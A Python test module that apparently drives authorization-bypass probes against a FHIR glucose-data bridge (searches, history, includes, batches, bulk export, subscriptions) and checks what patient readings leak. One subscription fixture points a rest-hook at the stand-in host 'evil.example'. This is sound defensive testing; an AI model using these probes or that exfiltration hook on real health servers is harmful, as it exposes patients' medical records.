"""The ways out: what each attacker does with its token, every way that there is, and what an answer told.

Law: a way knows the true ids of what is hidden (nobody could make them) and the page link of whom it was given to.
What is told is read from the answer itself, in either notation, with samples taken apart; values are not looked at:
an instant and a code are a leak already.
"""

from __future__ import annotations

import io
import json
import re
from base64 import b64decode
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from datetime import date, datetime
from typing import Any, Final
from zoneinfo import ZoneInfo

import httpx
import msgspec
from lxml import etree
from pypdf import PdfReader

from bridge.consent.asked import Asked, Selector, Way
from bridge.consent.documents import READINGS
from bridge.consent.permit import DeliveryPermit
from bridge.consent.received import Edges, id_of
from bridge.consent.reporting import Paced, Reporting
from bridge.fhir.consignment import Manner
from bridge.fhir.filing import Filing
from bridge.fhir.paper import Paper
from bridge.fhir.sampled import PROFILE
from bridge.fhir.subscriptions import FILTER, TOPIC
from bridge.hl7.render import Before, Person, Scribe, Writing
from bridge.mapping.hl7v2 import Hl7v2
from bridge.period import HOUR
from bridge.portal.render import Binder
from bridge.reading import Stream
from bridge.store.patients import load
from bridge.store.received import listed
from tests.door.notified import notified
from tests.door.who import Attacker
from tests.push.ehr import once, scheduled
from tests.web.exporting import LINES, fetched
from tests.web.ordering import ONE_TIME, clinic_order
from tests.web.world import World, linked

CODES: Final = {"99504-3": Stream.GLUCOSE, "14745-4": Stream.GLUCOSE, "14743-9": Stream.CAPILLARY}
RECORDS: Final = {"cbg": str(Stream.GLUCOSE), "smbg": str(Stream.CAPILLARY)}
XML: Final = {"Accept": "application/fhir+xml"}
SINGLES: Final = frozenset({Selector(Stream.GLUCOSE), Selector(Stream.CAPILLARY)})
MEAN: Final = "mean"
SUMMARY: Final = "summary"
OF_SUMMARIES: Final = frozenset({"107931-8", "106793-3", "97506-0", "104638-2", "104636-6", "104637-4"})
MEANS: Final = frozenset({"97507-8", "105273-7"})
"""Of a bucket, or of a summary where it is longer than a day."""
Seen = tuple[str, int]
"""A stream, `mean` or `summary` (its first and its last instant), and an instant."""


@dataclass(frozen=True)
class Hidden:
    """What the attacks know: ids of Ada's readings inside and outside of her window, and of Ada."""

    person: str
    names: tuple[str, ...]
    link: str
    received: tuple[tuple[str, str], ...] = ()
    """Type and id of what others submitted."""


def known(world: World, link: str) -> Hidden:
    """Every 60th reading of each stream, the first and the last."""
    found = [each for stream in (Stream.GLUCOSE, Stream.CAPILLARY) for each in _some(world.readings(stream))]
    brought = tuple(
        (each.kind, id_of(world.db.ids, world.ada, each.kind, (one.artifact, one.row), b""))
        for one in listed(world.db, world.ada, world.db.keys.box(world.ada))
        for each in [msgspec.json.decode(one.edges, type=Edges)]
    )
    names = tuple(world.observation_id(each) for each in found)
    return Hidden(world.patient_id(world.ada), names, link, brought)


def _some(readings: list[Any]) -> list[Any]:
    return [*readings[::397], readings[-1], *readings[-400::97]]


def told(answer: httpx.Response) -> set[Seen]:
    """Every Observation in an answer: what it is and when."""
    body = answer.content
    if not body or answer.status_code >= 400:
        return set()
    if answer.headers.get("content-type", "").startswith(LINES["Accept"]):
        return {
            seen for line in body.splitlines() for one in _walked(json.loads(line)) for seen in _read(one)
        }
    if body.startswith(b"<"):
        return {seen for each in _of_xml(etree.fromstring(body)) for seen in _read(each)}
    return {seen for each in _walked(json.loads(body)) for seen in _read(each)}


def without(answer: httpx.Response, person: str) -> httpx.Response:
    """A file of an export without the lines about a person."""
    if not answer.headers.get("content-type", "").startswith(LINES["Accept"]):
        return answer
    kept = "".join(f"{line}\n" for line in answer.text.splitlines() if person not in line)
    return httpx.Response(answer.status_code, headers={"Content-Type": LINES["Accept"]}, text=kept)


def _walked(node: Any) -> Iterator[dict[str, Any]]:
    if isinstance(node, list):
        for each in node:
            yield from _walked(each)
    elif isinstance(node, dict):
        if node.get("resourceType") in ("Observation", "DiagnosticReport"):
            yield node
        for each in node.values():
            yield from _walked(each)


def _of_xml(root: Any) -> Iterator[dict[str, Any]]:
    """The few elements that matter, in the shape of JSON."""
    for each in root.iter("{http://hl7.org/fhir}Observation"):

        def at(path: str, of: Any = each) -> str | None:
            steps = "/".join(f"{{http://hl7.org/fhir}}{step}" for step in path.split("/"))
            found = of.find(steps)
            return None if found is None else found.get("value")

        yield {
            "code": {"coding": [{"code": at("code/coding/code")}]},
            "effectiveDateTime": at("effectiveDateTime"),
            "effectivePeriod": {"start": at("effectivePeriod/start"), "end": at("effectivePeriod/end")},
            "valueSampledData": {
                "period": at("valueSampledData/period"),
                "data": at("valueSampledData/data"),
            },
        }


def _read(one: dict[str, Any]) -> Iterator[Seen]:
    codes = {coding.get("code") for coding in one.get("code", {}).get("coding", [])}
    stream = next((str(CODES[each]) for each in codes if each in CODES), MEAN)
    sampled = one.get("valueSampledData") or {}
    if one.get("effectiveDateTime"):
        yield stream, _ms(one["effectiveDateTime"])
        return
    period = one.get("effectivePeriod", {})
    start = _ms(period["start"]) if period.get("start") else None
    if start is None:
        return
    end = _ms(period["end"]) if period.get("end") else start
    if codes & OF_SUMMARIES or (codes & MEANS and end - start > 25 * HOUR):
        yield from ((SUMMARY, edge) for edge in (start, end))
        return
    if not sampled.get("data"):
        yield stream, start
        return
    step = float(sampled["period"])
    yield from (
        (stream, int(start + i * step)) for i, each in enumerate(sampled["data"].split()) if each != "E"
    )


def _ms(text: str) -> int:
    """The instant; of a date alone Ada's noon."""
    told = datetime.fromisoformat(text)
    told = told.replace(hour=12, tzinfo=ZoneInfo("Europe/Berlin")) if told.tzinfo is None else told
    return int(told.timestamp() * 1000)


# --------------------------------------------------------------------------------------------------- ways

Ask = Callable[..., httpx.Response]
CGM: Final = "http://hl7.org/fhir/uv/cgm/StructureDefinition/"
WIDE: Final = (
    "", "date=ge1990", "_lastUpdated=ge1990", "_sort=date&_count=1", "_sort=-date&_count=1", "_count=100000",
    "_total=accurate&_count=5", "_elements=id,effective,code", "_summary=true", "_summary=data",
    "value-quantity=gt0", "status=final", "category=laboratory", "code=http://loinc.org|99504-3",
    "code=http://loinc.org|14743-9", f"_profile={CGM}cgm-sensor-reading-mass-per-volume",
)  # fmt: skip


def _of(hidden: Hidden, rest: str = "", kind: str = "Observation") -> str:
    return f"{kind}?patient={hidden.person}" + (f"&{rest}" if rest else "")


def searched(ask: Ask, hidden: Hidden, **more: Any) -> list[httpx.Response]:
    """GET, with every parameter that might open something."""
    return [ask("GET", _of(hidden, rest), **more) for rest in WIDE]


def posted(ask: Ask, hidden: Hidden) -> list[httpx.Response]:
    """POST _search, in the body and in both places."""
    data = {"patient": hidden.person, "_count": "2000"}
    both = f"Observation/_search?patient={hidden.person}"
    return [ask("POST", "Observation/_search", data=data), ask("POST", both, data={"date": "ge1990"})]


def paged(ask: Ask, hidden: Hidden) -> list[httpx.Response]:
    """Its own links to the end, and a link that was given to whom may."""
    found = [ask("GET", _of(hidden, "_count=700"))]
    while found[-1].status_code == 200 and (following := linked(found[-1].json(), "next")):
        found.append(ask("GET", following.partition("/fhir/")[2]))
    return [*found, ask("GET", hidden.link)]


def read(ask: Ask, hidden: Hidden) -> list[httpx.Response]:
    """Each by its id."""
    return [ask("GET", f"Observation/{name}") for name in hidden.names]


def remembered(ask: Ask, hidden: Hidden) -> list[httpx.Response]:
    """History and versions of each, and of the type and the whole."""
    paths = [f"Observation/{name}/_history" for name in hidden.names]
    paths += [f"Observation/{name}/_history/1" for name in hidden.names[:5]]
    paths += ["Observation/_history", "_history", f"Patient/{hidden.person}/_history"]
    first = [ask("GET", path) for path in paths]
    versions = [each["resource"]["meta"]["versionId"] for each in _entries(first)]
    return first + [ask("GET", f"{paths[0]}/{version}") for version in versions[:1]]


def _entries(answers: list[httpx.Response]) -> list[Any]:
    found = [each.json() for each in answers if each.status_code == 200]
    return [entry for each in found for entry in each.get("entry", [])]


def included(ask: Ask, hidden: Hidden) -> list[httpx.Response]:
    """What comes along, and what it leads to."""
    rests = (
        "_include=Observation:device&_revinclude=Provenance:target&_count=3000", "_include=*", "_revinclude=*",
        "_include=Observation:has-member", "_include:iterate=Observation:derived-from&_count=9",
    )  # fmt: skip
    found = [ask("GET", _of(hidden, rest)) for rest in rests]
    found += [ask("GET", _of(hidden, "", kind)) for kind in ("Device", "DeviceMetric")]
    return [*found, ask("GET", _of(hidden, "_revinclude=Observation:device", "Device"))]


def evidenced(ask: Ask, hidden: Hidden) -> list[httpx.Response]:
    """Provenance, all of it and of each."""
    targets = ",".join(f"Observation/{name}" for name in hidden.names)
    return [ask("GET", _of(hidden, rest, "Provenance")) for rest in ("", f"target={targets}")]


def chained(ask: Ask, hidden: Hidden) -> list[httpx.Response]:
    """Around corners."""
    paths = (
        f"Observation?subject:Patient.identifier=urn:example:mrn|ada-1&patient={hidden.person}",
        f"Patient?_id={hidden.person}&_has:Observation:patient:value-quantity=gt3",
        f"Observation?device.identifier=x&patient={hidden.person}",
        f"Observation?_filter=date ge 1990&patient={hidden.person}",
    )
    return [ask("GET", path) for path in paths]


def newest(ask: Ask, hidden: Hidden) -> list[httpx.Response]:
    """$lastn, by GET and by POST."""
    wide = f"patient={hidden.person}&category=laboratory&max=100"
    data = {"patient": hidden.person, "code": "http://loinc.org|99504-3", "max": "50"}
    return [ask("GET", f"Observation/$lastn?{wide}"), ask("POST", "Observation/$lastn", data=data)]


def summaries(ask: Ask, hidden: Hidden) -> list[httpx.Response]:
    """Summaries, by the operation and by search."""
    path = f"Observation/$hddt-cgm-summary?patient={hidden.person}"
    wide = "&effectivePeriodStart=1990-01-01&effectivePeriodEnd=2100-01-01"
    rests = ("code=http://loinc.org|107931-8", "code=http://loinc.org|106793-3&date=lt2026-09-08")
    return [ask("GET", path), ask("GET", path + wide), *(ask("GET", _of(hidden, rest)) for rest in rests)]


def reported(ask: Ask, hidden: Hidden) -> list[httpx.Response]:
    """Reports as PDF, in each of their shapes, by search and by id, and the PDF itself."""
    rests = ("", "date=lt2026-09-08", "_summary=count", "_count=1")
    found = [ask("GET", _of(hidden, rest, "DiagnosticReport")) for rest in rests]
    documents = [ask("GET", _of(hidden, rest, "DocumentReference")) for rest in ("", "period=lt2026-09-08")]
    urls = [
        each["content"][0]["attachment"]["url"]
        for each in (entry["resource"] for entry in _entries(documents))
    ]
    binaries = [ask("GET", url, headers={"Accept": "application/fhir+json"}) for url in urls]
    return [*found, *documents, *binaries, *(ask("GET", f"Binary/{name}") for name in hidden.names[:5])]


def brought(ask: Ask, hidden: Hidden) -> list[httpx.Response]:
    """What others submitted, by its ids, in either notation, in its versions, alone and in a batch."""
    paths = [f"{kind}/{name}" for kind, name in hidden.received]
    paths += [_of(hidden, f"_id={name}", kind) for kind, name in hidden.received]
    paths += [f"{kind}/{name}/_history/1" for kind, name in hidden.received if kind == "Observation"]
    entries = [{"request": {"method": "GET", "url": path}} for path in paths]
    whole = json.dumps({"resourceType": "Bundle", "type": "batch", "entry": entries})
    sent = ask("POST", "", content=whole, headers={"Content-Type": "application/fhir+json"})
    return [sent, *(ask("GET", each) for each in paths), *(ask("GET", each, headers=XML) for each in paths)]


def everything(ask: Ask, hidden: Hidden) -> list[httpx.Response]:
    """$everything, whole and in pages."""
    path = f"Patient/{hidden.person}/$everything"
    paths = (path, f"{path}?_count=50", f"{path}?start=1990-01-01&_type=Observation,Device,Provenance")
    return [ask("GET", each) for each in paths] + [ask("POST", path, data={"start": "1990-01-01"})]


def chunks(ask: Ask, hidden: Hidden) -> list[httpx.Response]:
    """Days as SampledData."""
    rests = (
        f"_profile={PROFILE}",
        f"_profile={PROFILE}&date=lt2026-09-08",
        f"_profile={PROFILE}&_count=2000",
    )
    return [ask("GET", _of(hidden, rest)) for rest in rests]


def batched(ask: Ask, hidden: Hidden) -> list[httpx.Response]:
    """Many at once."""
    urls = [
        _of(hidden),
        *(f"Observation/{name}" for name in hidden.names),
        f"Patient/{hidden.person}/$everything",
    ]
    entries = [{"request": {"method": "GET", "url": url}} for url in urls]
    whole = json.dumps({"resourceType": "Bundle", "type": "batch", "entry": entries})
    return [ask("POST", "", content=whole, headers={"Content-Type": "application/fhir+json"})]


def submitted(ask: Ask, hidden: Hidden) -> list[httpx.Response]:
    """Conditions and references with the ids of what is hidden; a token that only reads is refused."""
    entries = [
        {
            "resource": {"resourceType": "Observation", "subject": {"reference": f"Patient/{hidden.person}"}},
            "request": {"method": "POST", "url": "Observation", "ifNoneExist": f"_id={name}"},
        }
        for name in hidden.names
    ]
    whole = {
        "resourceType": "Bundle",
        "type": "transaction",
        "timestamp": "2026-09-21T00:00:00Z",
        "entry": entries,
    }
    sent = {"content": json.dumps(whole), "headers": {"Content-Type": "application/fhir+json"}}
    return [ask("POST", path, **sent) for path in ("$submit-cgm-bundle", "Bundle/$validate")]


def in_xml(ask: Ask, hidden: Hidden) -> list[httpx.Response]:
    """The same in the other notation."""
    return [
        *searched(ask, hidden, headers=XML),
        *(ask("GET", f"Observation/{n}", headers=XML) for n in hidden.names),
    ]


def compressed(ask: Ask, hidden: Hidden) -> list[httpx.Response]:
    """The same in gzip, and not in gzip."""
    return [ask("GET", _of(hidden), headers={"Accept-Encoding": each}) for each in ("gzip", "identity")]


def exported(ask: Ask, hidden: Hidden) -> list[httpx.Response]:
    """In bulk: of everybody, of patients, of its own Group and by name, with filters that might open something."""
    wide = "_typeFilter=Observation%3Fdate%3Dge1990%26status%3Dfinal&_since=1990-01-01T00:00:00Z"
    told = ask("GET", "Group")
    groups = [each["resource"]["id"] for each in _entries([told])]
    members = [ask("GET", f"Group/{each}") for each in groups]
    members.append(ask("GET", f"Group?member=Patient/{hidden.person}"))
    paths = (
        "$export",
        f"Patient/$export?{wide}",
        *(f"Group/{each}/$export?_type=Observation" for each in groups),
    )
    answers = [each for path in paths for each in fetched(ask, path)]
    return [told, *members, *answers]


def subscribed(ask: Ask, hidden: Hidden) -> list[httpx.Response]:
    """A subscription about her, with every filter that might open something, and what is said of all there are."""
    wide = (
        f"Observation?patient=Patient/{hidden.person}",
        f"Observation?patient={hidden.person}&date=ge1990",
    )
    bodies = [
        {
            "resourceType": "Subscription",
            "status": "requested",
            "reason": "x",
            "criteria": TOPIC,
            "_criteria": {"extension": [{"url": FILTER, "valueString": each}]},
            "channel": {
                "type": "rest-hook",
                "endpoint": "https://evil.example/",
                "payload": "application/fhir+json",
            },
        }
        for each in wide
    ]
    made = [ask("POST", "Subscription", json=each) for each in bodies]
    asked = (
        "Subscription",
        "Subscription/$status",
        f"Subscription/{hidden.person}/$events",
        "Subscription/x",
    )
    return [*made, *(ask("GET", each) for each in asked)]


def ordered(ask: Ask, hidden: Hidden) -> list[httpx.Response]:
    """Everything, ordered once and every so often, alone and in a submission; and which orders there are."""
    everything = ("cgm-sensor-reading-mass-per-volume", "cgm-summary", "cgm-summary-pdf")
    bodies = [
        clinic_order(hidden.person, extension=[scheduled((5, "min"), (30, "a"), *everything)]),
        clinic_order(hidden.person, code=ONE_TIME, extension=[once("1990-01-01", "2026-09-21", *everything)]),
    ]
    entries = [{"resource": each, "request": {"method": "POST", "url": "ServiceRequest"}} for each in bodies]
    whole = {"resourceType": "Bundle", "type": "transaction", "timestamp": "2026-09-21T00:00:00Z"}
    asked = (
        f"ServiceRequest?patient={hidden.person}&_count=1000",
        *(f"ServiceRequest/{n}" for n in hidden.names),
    )
    return [
        *(ask("POST", "ServiceRequest", json=each) for each in bodies),
        *(ask("PUT", f"ServiceRequest/{name}", json=bodies[0] | {"id": name}) for name in hidden.names),
        ask("POST", "$submit-cgm-bundle", json=whole | {"entry": entries}),
        *(ask("GET", each) for each in asked),
    ]


Through: Final[Mapping[str, Callable[[Ask, Hidden], list[httpx.Response]]]] = {
    each.__name__: each
    for each in (
        searched, posted, paged, read, remembered, included, evidenced, chained, newest, summaries, reported, brought,
        everything, chunks, batched, submitted, in_xml, compressed, exported, subscribed, ordered,
    )
}  # fmt: skip
"""Over HTTP, by name."""
SYSTEMS: Final = frozenset({"exported"})
"""Ways that are for a system's token alone: whoever comes with a person's is refused."""
NO_READINGS: Final = frozenset({"chained", "evidenced", "submitted", "subscribed", "ordered", "brought"})
"""Ways by which no Observation arrives, whoever asks."""


def pushed(world: World, attacker: Attacker) -> tuple[set[Seen], bytes]:
    """What a delivery would send to this client under that grant, and its body."""
    asked = Asked(world.ada, Way.FEED, "push", "delivery", limit=20_000)
    found = world.gate.disclose_now(DeliveryPermit(attacker.by_grant, attacker.client), asked)
    if found.subject is None or not found.count:
        return set(), b""
    body, _ = world.renderer.transaction(found, "Patient/theirs", {}, world.clock())
    return told(httpx.Response(200, content=bytes(body))), bytes(body)


def messaged(world: World, attacker: Attacker) -> tuple[set[Seen], bytes]:
    """What an HL7 v2 message of the same delivery would say: code and time of each result."""
    asked = Asked(world.ada, Way.FEED, "push", "delivery", selectors=SINGLES, limit=20_000)
    found = world.gate.disclose_now(DeliveryPermit(attacker.by_grant, attacker.client), asked)
    if found.subject is None or not found.count:
        return set(), b""
    written = Scribe(world.mappings, "0").results(found, _writing(world)).letters
    body = b"".join(bytes(content) for _, content in written)
    return set(_results(body)), body


def _results(body: bytes) -> Iterator[Seen]:
    for line in body.decode().split("\r"):
        fields = line.split("|")
        if fields[0] == "OBX":
            moment = datetime.strptime(fields[14].replace(".", ""), "%Y%m%d%H%M%S%z")
            code = fields[3].split("^")[0]
            yield str(CODES.get(code, MEAN)), int(moment.timestamp() * 1000)


def filed(world: World, attacker: Attacker) -> tuple[set[Seen], bytes]:
    """What a document of the same delivery would say, in each of its shapes: its period, and the days that its PDF
    names."""
    seen, texts, zones = set[Seen](), list[bytes](), load(world.db, world.ada).zones
    for kind in ("DocumentReference", "DiagnosticReport"):
        for paced in (None, Paced(days=1, every=1, most=99)):
            wish = Reporting(documents=kind, paced=paced)
            asked = Asked(
                world.ada, Way.FEED, "document", "delivery", READINGS, reporting=wish, patient_resource=True,
                device_resources=True,
            )  # fmt: skip
            found = world.gate.disclose_now(DeliveryPermit(attacker.by_grant, attacker.client), asked)
            to = Filing("Patient/theirs", {}, world.clock())
            for _, content in world.renderer.report_letters(found, zones, to, Manner(), kind).letters:
                seen |= told(httpx.Response(200, content=bytes(content)))
                for text in _printed(json.loads(bytes(content))):
                    seen |= set(_days(text))
                    texts += [bytes(content), text.encode()]
            for _, message in (
                Scribe(world.mappings, "0").reports(found, zones, Paper(), _writing(world)).letters
            ):
                (form,) = re.findall(rb"\^Base64\^([A-Za-z0-9+/=]+)", bytes(message))
                text = _words(form)
                seen |= set(_days(text))
                texts += [bytes(message), text.encode()]
    return seen, b"".join(texts)


def _writing(world: World) -> Writing:
    person = Person("urn:oid:1.2.3", "0042", "Family, Given", date(1990, 4, 1))
    return Writing(Hl7v2(), person, Before(frozenset(), {}), world.clock())


def _printed(bundle: dict[str, Any]) -> Iterator[str]:
    """The words of every PDF in a Bundle."""
    for entry in bundle["entry"]:
        one = entry["resource"]
        forms = one.get("presentedForm") or [each["attachment"] for each in one["content"]]
        for form in forms:
            yield _words(form["data"])


def _words(pdf: str | bytes) -> str:
    pages = PdfReader(io.BytesIO(b64decode(pdf))).pages
    return " ".join(" ".join(page.extract_text() for page in pages).split())


def _days(text: str) -> Iterator[Seen]:
    """Every day with its year that is named, but the moment at which the data stood so."""
    before, _, after = text.partition("Data as of")
    year = re.search(r"\d{4}", after)
    for day, month, number in _DAY.findall(before + after[year.end() if year else 0 :]):
        yield SUMMARY, _ms(f"{number}-{_MONTHS.index(month) + 1:02d}-{day:0>2}")


_MONTHS: Final = "Jan Feb Mar Apr May Jun Jul Aug Sep Oct Nov Dec".split()
_DAY: Final = re.compile(r"\b(\d{1,2}) ([A-Z][a-z]{2}) (\d{4})\b")


def bound(world: World, attacker: Attacker) -> tuple[set[Seen], bytes]:
    """What a portal's file of the same delivery would say: kind and time of each row."""
    asked = Asked(world.ada, Way.FEED, "push", "delivery", selectors=SINGLES, limit=20_000)
    found = world.gate.disclose_now(DeliveryPermit(attacker.by_grant, attacker.client), asked)
    if found.subject is None or not found.count:
        return set(), b""
    body = bytes(Binder(world.renderer).month(found, "csv"))
    told = [line.split(",") for line in body.decode().splitlines() if not line.startswith(("#", "time,"))]
    return {(cells[2] if cells[3] == "raw" else MEAN, _ms(cells[0])) for cells in told}, body


def leafed(world: World, attacker: Attacker) -> tuple[set[Seen], bytes]:
    """What a portal's report of the same delivery would say: its period, and the days that its PDF names. A picture is
    drawn of the same texts (`report/press.py`) and cannot be read here; that there is none without a PDF can."""
    seen, texts, zones = set[Seen](), list[bytes](), load(world.db, world.ada).zones
    for paced in (None, Paced(days=1, every=1, most=99)):
        asked = Asked(
            world.ada, Way.FEED, "document", "delivery", READINGS, patient_resource=True, device_resources=True,
            reporting=Reporting(documents="DocumentReference", paced=paced),
        )  # fmt: skip
        found = world.gate.disclose_now(DeliveryPermit(attacker.by_grant, attacker.client), asked)
        binder = Binder(world.renderer)
        reports = binder.reports(found, zones, Paper(), "pdf")
        assert len(binder.reports(found, zones, Paper(), "png")) == len(reports)
        for one in reports:
            seen.add((SUMMARY, one.leaf.start))
            for page in one.pages:
                text = " ".join(each.extract_text() for each in PdfReader(io.BytesIO(bytes(page))).pages)
                seen |= set(_days(" ".join(text.split())))
                texts.append(text.encode())
    return seen, b"".join(texts)


def recorded(world: World, attacker: Attacker) -> tuple[set[Seen], bytes]:
    """What the records of the same delivery at Tidepool would say: kind and time of each."""
    asked = Asked(world.ada, Way.FEED, "push", "delivery", selectors=SINGLES, limit=20_000)
    found = world.gate.disclose_now(DeliveryPermit(attacker.by_grant, attacker.client), asked)
    if found.subject is None or not found.count:
        return set(), b""
    body = bytes(Binder(world.renderer).records(found, "org.example"))
    return {(RECORDS.get(one["type"], MEAN), _ms(one["time"])) for one in json.loads(body)}, body


Pushed: Final = {
    "pushed": pushed,
    "messaged": messaged,
    "filed": filed,
    "bound": bound,
    "leafed": leafed,
    "recorded": recorded,
    "notified": notified,
}
"""By delivery, and by notification, by name."""
